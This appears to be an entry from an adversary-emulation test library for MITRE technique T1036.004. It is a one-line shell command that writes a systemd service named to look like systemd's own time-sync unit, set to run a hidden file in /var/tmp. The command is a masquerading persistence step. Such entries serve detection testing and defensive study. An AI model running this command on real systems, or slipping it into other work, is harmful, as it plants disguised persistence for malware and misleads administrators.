# title: A service with a name that looks like systemd's own
# technique: T1036.004

printf '[Unit]\nDescription=Network Time Synchronization\n[Service]\nExecStart=/var/tmp/.t\n' >/etc/systemd/system/systemd-timesyncd2.service
